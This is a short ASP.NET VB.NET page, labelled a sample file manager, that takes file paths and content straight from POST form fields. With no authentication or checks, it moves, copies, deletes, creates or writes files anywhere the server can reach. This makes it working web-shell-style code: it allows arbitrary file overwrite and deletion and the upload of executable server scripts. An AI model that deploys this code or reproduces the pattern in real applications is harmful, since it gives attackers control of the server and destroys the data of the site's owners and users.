<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
' Sample: a VB.NET file manager's actions on paths taken straight from the request.
Sub Page_Load(sender As Object, e As EventArgs)
    Dim act As String = Request.Form("act")
    Dim src As String = Request.Form("src")
    Dim dst As String = Request.Form("dst")
    Select Case act
        Case "mv"
            If Directory.Exists(src) Then
                Directory.Move(src, dst)
            Else
                File.Move(src, dst)
            End If
        Case "cp"
            File.Copy(src, dst, True)
        Case "rm"
            File.Delete(src)
        Case "md"
            Directory.CreateDirectory(src)
        Case "put"
            Using w As New StreamWriter(dst, False)
                w.Write(Request.Form("body"))
            End Using
    End Select
    Response.Write("done")
End Sub
</script>
